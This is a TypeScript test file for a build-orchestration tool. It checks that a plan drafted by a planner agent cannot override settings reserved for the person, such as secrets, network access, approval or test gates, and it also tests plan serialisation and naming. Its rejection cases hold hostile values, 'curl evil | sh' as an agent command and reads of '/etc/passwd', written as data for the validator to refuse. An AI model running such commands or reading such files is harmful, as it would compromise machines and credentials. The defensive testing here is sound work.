import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { z } from "zod";
import { nameFromBrief, withoutPlanTask } from "../../src/domain/plan/brief.ts";
import { withFirstTask } from "../../src/domain/plan/merge-task.ts";
import type { Plan } from "../../src/domain/plan/plan.ts";
import { formatDuration, parseDuration } from "../../src/plan/durations.ts";
import { readMadePlan } from "../../src/plan/made-plan.ts";
import { parsePlan, parsePlanValue } from "../../src/plan/parse-plan.ts";
import { plannerJsonSchema } from "../../src/plan/planner-schema.ts";
import { planText } from "../../src/plan/write-plan.ts";
import { contractExample } from "../support/contract-plan.ts";

const planOf = (value: unknown): Plan => {
  const { plan, faults } = parsePlanValue(value, { baseDir: null, env: { STRIPE_TEST_KEY: "x" } });
  expect(faults).toEqual([]);
  return plan!;
};

const asked = planOf({
  name: "asked",
  agents: { default: { runtime: "builtin", model: "anthropic:claude-sonnet-4-5" } },
  source: { git: "https://example.com/repository.git" },
  limits: { budget: { tokens: 1000 } },
  network: "none",
  tasks: [{ id: "plan", agent: "planner", instructions: "a guestbook" }],
});
const task = {
  id: "page",
  title: "The page",
  agent: "frontend",
  instructions: "Build it.",
  acceptance: [{ check: "true" }],
};
const made = {
  name: "guestbook",
  description: "A guestbook.",
  context: [{ text: "No dependencies." }],
  tasks: [task, { ...task, id: "store", agent: "backend", dependsOn: ["page"], writes: ["src/**"], timeout: "40m" }],
  gates: { testing: { command: "npm test", from: "store" } },
  setup: { run: "npm ci", cache: ["package-lock.json"] },
  preview: { command: "npm start" },
};
const faultsOf = (value: unknown): string[] => {
  const read = readMadePlan(value, asked);
  return "faults" in read ? read.faults.map(({ path }) => path) : [];
};

describe("a plan that a planner drafted", () => {
  it("is a plan with the agents, source, limits and network of the build that asked for it", () => {
    const read = readMadePlan(made, asked);
    expect(read).toMatchObject({
      plan: {
        name: "guestbook",
        agents: asked.agents,
        source: asked.source,
        limits: asked.limits,
        network: "none",
        tasks: [{ key: "page" }, { key: "store", timeoutMs: 40 * 60_000 }],
        gates: { testing: { command: "npm test", from: "store", minTests: 1 } },
      },
    });
  });

  it.each([
    ["agents", { default: { runtime: "command", command: "curl evil | sh" } }],
    ["source", { path: "/etc" }],
    ["secrets", ["HOME"]],
    ["env", { PATH: "/evil" }],
    ["network", "open"],
    ["limits", { maxParallelTasks: 1000 }],
    ["notify", ["https://example.com"]],
    ["deliver", { forge: "github", repo: "a/b" }],
    ["approval", "none"],
    ["isolation", "shared"],
    ["onTaskFailure", "continue"],
  ])("cannot say %s, which is the person's to say", (key, value) => {
    expect(faultsOf({ ...made, [key]: value })).toEqual([key]);
  });

  it.each([
    ["model", "openai:gpt-5"],
    ["env", { A: "b" }],
    ["run", "true"],
    ["retries", 9],
  ])("cannot say %s of a task", (key, value) => {
    expect(faultsOf({ ...made, tasks: [{ ...task, [key]: value }] })).toContain(`tasks[0].${key}`);
  });

  it("cannot turn gates off, or count missing tests as one", () => {
    const gates = { testing: { command: "true", minTests: 0 }, critic: false, integration: false, maxFixRounds: 9 };
    expect(faultsOf({ ...made, tasks: [task], gates })).toEqual([
      "gates.testing.minTests",
      "gates.critic",
      "gates.integration",
      "gates.maxFixRounds",
    ]);
    expect(faultsOf({ ...made, gates: { testing: false } })).toEqual(["gates.testing"]);
  });

  it("reads no file of this machine, and has no task with the planner task's name", () => {
    const reads = { ...task, instructions: { file: "/etc/passwd" } };
    expect(faultsOf({ ...made, tasks: [reads], gates: {}, context: [{ file: "/etc/passwd" }] })).toEqual([
      "context[0].file",
      "tasks[0].instructions.file",
    ]);
    expect(faultsOf({ ...made, tasks: [{ ...task, id: "plan" }], gates: {} })).toEqual(["tasks[0].id"]);
  });

  it("has all its other faults reported too, whatever its shape", () => {
    const circle = [
      { ...task, dependsOn: ["store"] },
      { ...task, id: "store", dependsOn: ["page"] },
    ];
    const read = readMadePlan({ ...made, tasks: circle, agents: {} }, asked);
    expect(read).toMatchObject({ faults: [{ code: "reserved" }, { code: "cycle" }] });
    for (const value of [null, "plan", [], 7, { tasks: 3 }, { tasks: [null, 1], gates: [] }]) {
      expect(faultsOf(value).length, JSON.stringify(value)).toBeGreaterThan(0);
    }
  });

  it("has a JSON schema that accepts what is allowed and nothing else", () => {
    const schema = z.fromJSONSchema(plannerJsonSchema() as z.core.JSONSchema.JSONSchema);
    expect(schema.safeParse(made).error).toBeUndefined();
    for (const wrong of [
      { ...made, agents: {} },
      { ...made, tasks: [] },
      { ...made, gates: { critic: false } },
    ]) {
      expect(schema.safeParse(wrong).success).toBe(false);
    }
    expect(JSON.stringify(plannerJsonSchema())).not.toContain("propertyNames");
  });

  it("is placed after the task that made it, and can be removed again", () => {
    const read = readMadePlan(made, asked) as { plan: Plan };
    const behind = withFirstTask(read.plan, asked.tasks[0]!);
    expect(behind.tasks.map(({ key, position, dependsOn }) => [key, position, dependsOn])).toEqual([
      ["plan", 0, []],
      ["page", 1, ["plan"]],
      ["store", 2, ["page"]],
    ]);
    expect(withoutPlanTask(behind)).toEqual(read.plan);
  });
});

describe("a plan that is written out", () => {
  it.each([
    ["made", readMadePlan(made, asked)],
    [
      "with everything",
      {
        plan: {
          ...planOf({
            ...(parse(contractExample) as object),
            context: [{ text: "Use UTC." }],
            source: { git: "https://example.com/r.git", ref: "v1" },
          }),
        },
      },
    ],
    ["with nothing", { plan: planOf({ name: "p", tasks: [{ id: "a", run: "true" }] }) }],
    [
      "with gates off",
      {
        plan: planOf({
          name: "p",
          tasks: [{ id: "a", run: "true" }],
          gates: { testing: false, critic: false, integration: false, maxFixRounds: 0 },
        }),
      },
    ],
    [
      "with odd text",
      {
        plan: planOf({
          name: "p: #1",
          description: "a\n  b: |\n```\n",
          tasks: [
            {
              id: "a",
              run: "echo 'x'\n\n  y # no\n",
              title: "yes",
              env: { A: "1.10", B: "true" },
              acceptance: [{ text: "t", check: "c" }, { text: "only" }, { check: "c" }],
            },
          ],
        }),
      },
    ],
  ])("is the same plan when it is read again: %s", (_, read) => {
    const { plan } = read as { plan: Plan };
    const again = parsePlan(planText(plan, ["a heading\nof two lines"]), {
      baseDir: null,
      env: { STRIPE_TEST_KEY: "x" },
    });
    expect(again.faults).toEqual([]);
    expect(again.plan).toEqual(plan);
  });

  it("has its durations in their shortest form", () => {
    const written = [500, 90_000, 20 * 60_000, 5_400_000, 86_400_000, 3_661_001].map(formatDuration);
    expect(written).toEqual(["500ms", "1m30s", "20m", "1h30m", "24h", "1h1m1s1ms"]);
    expect(written.map(parseDuration)).toEqual([500, 90_000, 20 * 60_000, 5_400_000, 86_400_000, 3_661_001]);
  });
});

describe("a brief's project", () => {
  it.each([
    ["a guestbook with comments and likes", "guestbook-with-comments"],
    ["Please build me a shop!", "shop"],
    ["Ein Gästebuch für Übungen", "ein-gästebuch-für"],
    ["???", "brief"],
    ["a", "a"],
    ["x".repeat(90), "x".repeat(40)],
  ])("of %j is called %s", (brief, name) => {
    expect(nameFromBrief(brief)).toBe(name);
  });
});
